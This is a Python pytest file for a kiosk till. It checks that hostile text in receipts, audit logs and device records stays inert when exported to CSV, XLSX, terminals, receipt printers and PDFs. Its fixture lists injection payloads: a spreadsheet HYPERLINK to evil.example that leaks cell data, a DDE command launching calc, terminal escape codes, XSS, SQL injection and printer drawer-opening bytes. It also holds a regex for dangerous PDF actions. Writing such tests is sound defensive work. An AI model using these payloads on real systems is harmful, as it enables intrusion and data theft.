"""Somebody who may write a text: a customer's note, a name, a reason, a bank's reference, a till's own version.

Wherever such a text goes it stays a text: no spreadsheet runs it, no terminal obeys it, no printer, page, log or
PDF takes it for a command.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest

from kiosk.cli.main import main
from kiosk.cli.terminal import printable, printable_json
from kiosk.core.payment import Outcome
from kiosk.paper.headless import able_to_draw
from kiosk.paper.output import pictures
from kiosk.paper.receipt import receipt_paper
from kiosk.paper.sheets import ROLL_58
from kiosk.paper.thermal.raster import escpos_bytes
from kiosk.paths import open_data_dir
from kiosk.relay.pages.pdf import receipt_pdf
from kiosk.relay.pages.receipt_view import read_receipt
from kiosk.relay.pages.words import Lang, labels
from kiosk.relay.records import EventSource, ReceivedEvent
from kiosk.relay.running.devices import offline_store
from kiosk.till.books.audit import Who, write_down
from tests.paper.samples import receipt
from tests.relay.pages import samples as page_samples
from tests.relay.stage import START, add_devices
from tests.till.builders import SHOP, Desk, ToldRefund

TITLE = "\x1b]0;owned\x07"
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1\r\nA1-999999,forged",
    "\0=1+1",
    "＝1+1",
    '","=1+1","',
    f"{TITLE}\x1b[2J\x1b[1A\x1b[8m",
    "\x9b2J\x9d0;owned\x9c",
    "moc.elpmaxe\u202e\u2066\u200f",
    "</td><script>alert(1)</script><img src=x onerror=alert(1)>",
    "\u2028\u2029\x85INFO kiosk: sale paid",
    "javascript:alert(1)",
    "{{7*7}}${7*7}%(x)s{0}",
    "'; DROP TABLE receipt; --",
    "\x1bp\x00\x19\xfa\x1d(L\x06\x1d!\x11",  # opens a drawer, draws large
)
RUNS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
OURS = re.compile(r"-?[0-9]+(\.[0-9]+)?|[+-][0-9]{2}:[0-9]{2}")
"""Amounts, and how far a zone is from UTC."""


@pytest.fixture(scope="module")
def books(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Desk]:
    """A till whose every text is hostile: in receipts, a refund of each, and the audit log. Only to be read."""
    desk = Desk(tmp_path_factory.mktemp("books") / "till.sqlite3")
    for number, text in enumerate(HOSTILE):
        desk.close()
        desk.shop = replace(SHOP, cashier=text, name=text)
        desk.open()
        sale_id = desk.sell(20_000 + number, text)
        desk.hear(sale_id, Outcome.PAID, reference=text)
        paid = desk.receipt_of(sale_id)
        desk.hear_refund(
            ToldRefund(f"re_{number}", paid.payment_id, 100, status="succeeded", reason=text)
        )
        with desk.store.transaction() as tx:
            write_down(tx, "A1", Who(text, text, text), "export", text, desk.clock())
    yield desk
    desk.close()


def ran(desk: Desk, *arguments: str) -> int:
    """A command over the till's folder."""
    return main([*arguments, "--data-dir", str(desk.path.parent)])


def texts(file: Path) -> list[list[str]]:
    """The rows of a CSV, as every reader cuts them."""
    return list(csv.reader(io.StringIO(file.read_text(encoding="utf-8-sig"), newline="")))


def runs(cells: list[str]) -> list[str]:
    """What a spreadsheet would run."""
    return [one for one in cells if one.startswith(RUNS) and not OURS.fullmatch(one)]


@pytest.mark.parametrize("what", [(), ("--audit",)], ids=["receipts", "audit"])
def test_csv_holds_as_many_rows_as_there_are_and_runs_none(
    books: Desk, tmp_path: Path, what: tuple[str, ...]
) -> None:
    out = tmp_path / "out.csv"
    assert ran(books, "receipts", "export", "--format", "csv", "--out", str(out), *what) == 0
    files = [out] if what else [out, tmp_path / "out-refunds.csv"]
    for file in files:
        header, *rows = texts(file)
        # That it is read is written down in the audit log, too.
        assert len(rows) >= len(HOSTILE) if what else len(rows) == len(HOSTILE)
        assert {len(row) for row in rows} == {len(header)}
        assert runs([cell for row in rows for cell in row]) == []
        assert "\0" not in file.read_text(encoding="utf-8")


def test_a_workbook_holds_no_formula_no_link_and_nothing_from_elsewhere(
    books: Desk, tmp_path: Path
) -> None:
    out = tmp_path / "out.xlsx"
    assert ran(books, "receipts", "export", "--format", "xlsx", "--out", str(out)) == 0
    with zipfile.ZipFile(out) as book:
        parts = {name: book.read(name).decode() for name in book.namelist()}
    sheets = {name: text for name, text in parts.items() if name.startswith("xl/worksheets/")}
    assert len(sheets) >= 2
    for name, text in parts.items():
        assert not re.search(
            r"<(\w+:)?(f|hyperlink|ddeLink|oleLink|externalReference)[ >/]", text
        ), name
        assert 'TargetMode="External"' not in text
        assert "vbaProject" not in name
    assert sum(text.count("HYPERLINK(") for text in sheets.values()) >= 3, "kept, as a text"


def test_documents_stay_one_a_line(books: Desk, tmp_path: Path) -> None:
    out = tmp_path / "out.jsonl"
    assert ran(books, "receipts", "export", "--format", "jsonl", "--out", str(out)) == 0
    lines = out.read_bytes().decode().split("\n")
    assert len(lines) == len(HOSTILE) + 1
    assert all(json.loads(line) for line in lines[:-1])


def steers(text: str) -> list[str]:
    """What a terminal would obey, or turn round."""
    return [letter for letter in text if not (letter.isprintable() or letter in "\n\t")]


def test_no_list_steers_a_terminal(books: Desk, capsys: pytest.CaptureFixture[str]) -> None:
    capsys.readouterr()
    for arguments in (
        ("receipts", "list"),
        ("receipts", "list", "--json"),
        ("receipts", "list", "--search", TITLE),
        *(("receipts", "show", f"A1-{number + 1:06d}") for number in range(len(HOSTILE))),
        ("receipts", "show", TITLE),
        ("receipts", "verify"),
        ("report", "x"),
        ("report", "x", "--json"),
    ):
        ran(books, *arguments)
        said = capsys.readouterr()
        assert steers(said.out + said.err) == [], arguments
        assert said.out + said.err


def test_what_is_shown_of_json_reads_back_the_same(
    books: Desk, capsys: pytest.CaptureFixture[str]
) -> None:
    capsys.readouterr()
    assert ran(books, "receipts", "list", "--json") == 0
    said = json.loads(capsys.readouterr().out)
    assert said == [json.loads(row.document) for row in books.store.receipts()]
    assert {one["note"] for one in said} > {"@SUM(A1:A9)"}


@pytest.mark.parametrize("text", [*HOSTILE, "ชา 🍵", "", "\U000e0001", "a\nb"])
def test_what_may_be_printed(text: str) -> None:
    assert steers(printable(text)) == []
    assert len(printable(text)) == len(text)
    whole = json.dumps({"t": text}, ensure_ascii=False, indent=1)
    assert steers(printable_json(whole)) == []
    assert json.loads(printable_json(whole)) == {"t": text}


def test_a_tills_own_word_and_an_events_steer_no_managers_terminal(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A till says its version, an event its type: whoever has a token, or Stripe's secret, writes there."""
    folder = tmp_path / "relay"
    with offline_store(open_data_dir(folder)) as store, store.transaction() as tx:
        add_devices(tx, "A1")
        record = tx.devices.by_name("A1")
        assert record is not None
        tx.devices.save(replace(record, version=TITLE, open_sales=1, last_receipt=TITLE))
        tx.inbox.append(
            ReceivedEvent("evt_1", f"payout.{TITLE}", b"{}", START, EventSource.WEBHOOK, TITLE)
        )
        tx.inbox.failed(1, f"cannot be read: {TITLE}", START)
    for arguments in (
        *(("devices", "list"), ("devices", "list", "--json"), ("devices", "revoke", TITLE)),
        *(("relay", "inbox", "list"), ("relay", "inbox", "list", "--json")),
        ("relay", "inbox", "retry", TITLE),
    ):
        main([*arguments, "--data-dir", str(folder)])
        said = capsys.readouterr()
        assert said.out + said.err
        assert steers(said.out + said.err) == [], arguments


# Papers

COMMANDS = b"\x1bp\x00\x19\xfa"
ACTS = re.compile(
    rb"/(JavaScript|JS|Launch|URI|GoToR|EmbeddedFile|SubmitForm|ImportData)\b|/OpenAction\s*<<|/AA\b"
)


@pytest.fixture
def drawing() -> Iterator[None]:
    """Able to draw."""
    with able_to_draw():
        yield


@pytest.mark.usefixtures("drawing")
def test_a_receipt_printer_gets_pictures_and_no_command_of_a_note() -> None:
    odd = HOSTILE[-1]
    fields = {"note": odd, "cashier": odd, "bankReference": odd, "shop": {"name": odd}}
    sent = escpos_bytes(pictures(receipt_paper(receipt(**fields), "th"), ROLL_58))
    assert len(sent) > 10_000
    assert COMMANDS not in sent
    assert odd.encode() not in sent


def test_a_pdf_of_the_till_does_nothing(books: Desk, tmp_path: Path) -> None:
    out = tmp_path / "receipt.pdf"
    number = HOSTILE.index("javascript:alert(1)") + 1
    assert ran(books, "receipts", "show", f"A1-{number:06d}", "--pdf", str(out)) == 0
    assert ACTS.findall(out.read_bytes()) == []


def test_a_pdf_of_the_customers_page_does_nothing() -> None:
    for text in ("javascript:alert(1)", HOSTILE[0], "http://evil.example/ ".join(HOSTILE)):
        document = page_samples.as_json(page_samples.receipt(note=text, shop={"name": text}))
        shown = read_receipt(document, (), Lang.EN)
        if shown is not None:
            pdf = receipt_pdf(shown, labels(Lang.EN), Lang.EN, None)
            assert ACTS.findall(pdf) == [], text
